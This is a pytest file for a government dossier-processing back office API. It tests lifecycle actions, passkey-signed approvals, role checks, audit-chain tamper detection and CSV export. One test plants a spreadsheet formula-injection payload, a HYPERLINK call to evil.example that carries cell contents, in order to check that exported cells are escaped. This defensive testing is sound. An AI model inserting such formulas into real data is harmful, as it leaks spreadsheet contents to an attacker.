"""The back office over HTTP: intake, supplements, routing, approval signed with a passkey, results."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from sqlalchemy import update

from api.cli import main as cli
from domain.audit import AuditEvent, verify_chain
from domain.db import Database
from domain.dossiers.models import Decision, Dossier
from tests import factories
from tests.api.backoffice import act, filed
from tests.helpers import PASSWORD, bearer, login, new_phone, signed_in


def test_full_lifecycle_with_signed_approval(client, setting, database_url: str) -> None:  # type: ignore[no-untyped-def]
    s = setting
    citizen, d = filed(client, s["code"])
    queue = client.get("/api/v1/officer/queue", params={"view": "new"}, headers=bearer(s["receiver"])).json()
    assert d["id"] in [i["id"] for i in queue["items"]]
    # someone of another unit does not even see it
    assert client.get(f"/api/v1/officer/dossiers/{d['id']}", headers=bearer(s["stranger"])).status_code == 404
    assert act(client, s["stranger"], d, "receive").status_code == 404
    # out of order: cannot approve what was not received
    assert act(client, s["receiver"], d, "propose", decision="approve").status_code == 409
    r = act(client, s["receiver"], d, "receive")
    assert r.status_code == 200, r.text
    d = r.json()
    assert d["status"] == "received" and d["due_date"]
    # a stale version loses with a clear 409
    stale = client.post(f"/api/v1/officer/dossiers/{d['id']}/actions/note", headers=bearer(s["receiver"]),
                        json={"version": d["version"] - 1, "reason": "x"})
    assert stale.status_code == 409 and "phiên bản" in stale.json()["detail"]
    me_id = client.get("/api/v1/me", headers=bearer(s["receiver"])).json()["id"]
    d = act(client, s["receiver"], d, "assign", to_user=me_id, reason="Xử lý").json()
    assert d["status"] == "processing"
    d = act(client, s["receiver"], d, "note", reason="Ghi chú nội bộ").json()
    d = act(client, s["receiver"], d, "route", to_unit=s["unit"], to_user=me_id, reason="Chuyển",
            step_due_date="2030-01-04").json()
    # result generated from the template, then proposed
    res = client.post(f"/api/v1/officer/dossiers/{d['id']}/result", headers=bearer(s["receiver"]),
                      json={"generate": True})
    assert res.status_code == 201, res.text
    result = res.json()
    d = client.get(f"/api/v1/officer/dossiers/{d['id']}", headers=bearer(s["receiver"])).json()
    d = act(client, s["receiver"], d, "propose", decision="approve").json()
    assert d["status"] == "awaiting_approval"
    # the receiver/processor cannot approve
    assert client.post(f"/api/v1/officer/dossiers/{d['id']}/actions/approve/options",
                       headers=bearer(s["receiver"])).status_code == 409
    # an assertion made for a reject is refused for an approve
    auth = s["approver_auth"]
    opt_reject = client.post(f"/api/v1/officer/dossiers/{d['id']}/actions/reject/options",
                             headers=bearer(s["approver"]), json={"reason": "Không đủ"}).json()
    wrong = act(client, s["approver"], d, "approve", assertion=auth.get(opt_reject))
    assert wrong.status_code == 400
    options = client.post(f"/api/v1/officer/dossiers/{d['id']}/actions/approve/options",
                          headers=bearer(s["approver"]))
    assert options.status_code == 200
    ok = act(client, s["approver"], d, "approve", assertion=auth.get(options.json()))
    assert ok.status_code == 200, ok.text
    d = ok.json()
    assert d["status"] == "approved"
    check = client.get(f"/api/v1/dossiers/{d['id']}/decision/verify", headers=bearer(citizen)).json()
    assert check["valid"] is True and check["decisions"][0]["result_sha256"] == result["sha256"]
    d = act(client, s["receiver"], d, "issue_result").json()
    d = act(client, s["receiver"], d, "return_result").json()
    assert d["status"] == "returned"
    # the citizen finds the result in the wallet; the public QR page verifies it without personal data
    wallet = client.get("/api/v1/documents", headers=bearer(citizen)).json()
    assert any(w["kind"] == "result" and w["sha256"] == result["sha256"] for w in wallet)
    public = client.get(f"/api/v1/verify/{result['public_id']}", params={"sha256": result["sha256"]})
    assert public.status_code == 200 and public.json()["valid"] and public.json()["matches"] is True
    assert "applicant" not in public.text
    history = [h["event"] for h in client.get(f"/api/v1/dossiers/{d['id']}/history", headers=bearer(citizen)).json()]
    assert "note" not in history and history[:2] == ["submit", "receive"] and history[-1] == "return_result"
    # the decision re-verifies later (CLI too), and a tampered decision does not
    assert cli(["verify-decision", str(d["id"])]) == 0
    db = Database(database_url)

    def tamper(session):  # type: ignore[no-untyped-def]
        row = session.query(Decision).filter_by(dossier_id=d["id"]).one()
        ev = json.loads(row.evidence)
        ev["binding"]["decision"] = "reject"
        row.evidence = json.dumps(ev)

    db.run(tamper)
    assert client.get(f"/api/v1/dossiers/{d['id']}/decision/verify", headers=bearer(citizen)).json()["valid"] is False


def test_supplement_pauses_the_clock_and_resubmission(client, setting) -> None:  # type: ignore[no-untyped-def]
    s = setting
    citizen, d = filed(client, s["code"])
    none = act(client, s["receiver"], d, "request_supplement", reason="Thiếu giấy tờ")
    assert none.status_code == 400 and none.json()["field"] == "missing"
    d = act(client, s["receiver"], d, "request_supplement", missing=["Bản sao CCCD rõ nét"]).json()
    assert d["status"] == "supplement_requested"
    again = act(client, s["receiver"], d, "request_supplement", missing=["Khác"])
    assert again.status_code == 409  # once only, and not from this state
    mine = client.get(f"/api/v1/dossiers/{d['id']}/history", headers=bearer(citizen)).json()
    assert mine[-1]["event"] == "request_supplement" and "CCCD" in mine[-1]["reason"]
    # the citizen adds what was missing and resubmits
    r = client.patch(f"/api/v1/dossiers/{d['id']}", headers=bearer(citizen), json={"data": {"request": "Bổ sung"}})
    assert r.status_code == 200
    again = client.post(f"/api/v1/dossiers/{d['id']}/submit", headers=bearer(citizen))
    assert again.status_code == 200 and again.json()["status"] == "submitted"
    queue = client.get("/api/v1/officer/queue", params={"view": "supplements"}, headers=bearer(s["receiver"])).json()
    assert d["id"] in [i["id"] for i in queue["items"]]


def test_refuse_apologize_and_roles(client, setting) -> None:  # type: ignore[no-untyped-def]
    s = setting
    _, d = filed(client, s["code"])
    assert act(client, s["receiver"], d, "refuse_intake").status_code == 409  # needs a reason
    d2 = act(client, s["receiver"], d, "receive").json()
    bad_day = act(client, s["receiver"], d2, "apologize", reason="Chậm", new_due_date="2000-01-01")
    assert bad_day.status_code == 400
    later = act(client, s["receiver"], d2, "apologize", reason="Cần xác minh thêm", new_due_date="2030-01-07")
    assert later.status_code == 200 and later.json()["due_date"].startswith("2030-01-07")
    _, d3 = filed(client, s["code"])
    refused = act(client, s["receiver"], d3, "refuse_intake", reason="Không thuộc thẩm quyền")
    assert refused.status_code == 200 and refused.json()["status"] == "refused_at_intake"
    assert act(client, s["receiver"], d3, "unknown_action").status_code == 404


def test_officer_without_passkey_is_refused(client, setting) -> None:  # type: ignore[no-untyped-def]
    username = new_phone()
    assert cli(["create-user", "--role", "officer", "--username", username, "--password", PASSWORD,
                "--unit", setting["unit"]]) == 0
    tokens = login(client, username)
    r = client.get("/api/v1/officer/queue", headers=bearer(tokens))
    assert r.status_code == 403 and "passkey" in r.json()["detail"]
    _, citizen = signed_in(client)
    assert client.get("/api/v1/officer/queue", headers=bearer(citizen)).status_code == 403


def test_logbook_csv(client, setting) -> None:  # type: ignore[no-untyped-def]
    filed(client, setting["code"])
    r = client.get("/api/v1/officer/logbook.csv", headers=bearer(setting["receiver"]),
                   params={"unit": setting["unit"], "from": "2026-01-01", "to": "2027-12-31"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    text = r.content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Mã hồ sơ,") and setting["unit"] in text
    other = client.get("/api/v1/officer/logbook.csv", headers=bearer(setting["receiver"]),
                       params={"unit": "000.00.13.H56", "from": "2026-01-01", "to": "2027-12-31"})
    assert other.status_code == 404


def test_logbook_csv_cells_cannot_start_a_formula(client, setting, database_url: str) -> None:  # type: ignore[no-untyped-def]
    """Security review finding 7: what a citizen typed must not become a formula in the officer's sheet."""
    _, d = filed(client, setting["code"])
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Bấm")'
    db = Database(database_url)

    def poison(session: Any) -> None:
        row = session.get(Dossier, d["id"])
        row.data = json.dumps({**json.loads(row.data), "applicant_name": evil})

    db.run(poison)
    r = client.get("/api/v1/officer/logbook.csv", headers=bearer(setting["receiver"]),
                   params={"unit": setting["unit"], "from": "2026-01-01", "to": "2027-12-31"})
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    assert "'" + evil in cells and evil not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_audit_chain_tamper_detected(client, database_url: str) -> None:  # type: ignore[no-untyped-def]
    db = Database(database_url)
    assert db.run(verify_chain).broken_at is None
    target, event = db.read_sync(lambda s: s.query(AuditEvent.id, AuditEvent.event).order_by(AuditEvent.id.desc())
                                 .offset(2).first())
    db.run(lambda s: s.execute(update(AuditEvent).where(AuditEvent.id == target).values(event="dossier.forged")))
    assert cli(["verify-audit"]) == 1
    assert db.run(verify_chain).broken_at == target
    # the row stays broken for this database: put it back for the tests that follow
    db.run(lambda s: s.execute(update(AuditEvent).where(AuditEvent.id == target).values(event=event)))
    assert db.run(verify_chain).broken_at is None


def test_decision_check_is_the_filers_or_a_passkey_officers(client, catalogue_db: str) -> None:  # type: ignore[no-untyped-def]
    """Regression (authorization matrix): the decision check sits outside /api/v1/officer/, so the passkey
    guard did not cover it: an officer of the unit in a password-only session read it, and another citizen
    got 403 (an officer's refusal) where someone else's dossier is 404."""
    db = Database(catalogue_db)
    owner, other = factories.citizen(db), factories.citizen(db)
    dossier_id = factories.submitted(db, owner)
    officer = factories.officer(db, factories.FEE_UNIT, ("receiver",), client=client)
    url = f"/api/v1/dossiers/{dossier_id}/decision/verify"
    assert client.get(url, headers=owner.headers).status_code == 200
    assert client.get(url, headers=bearer(officer.tokens)).status_code == 200
    password_only = client.get(url, headers=bearer(login(client, officer.username)))
    assert password_only.status_code == 403, password_only.text
    assert password_only.json()["title"] == "Passkey session required"
    assert client.get(url, headers=other.headers).status_code == 404
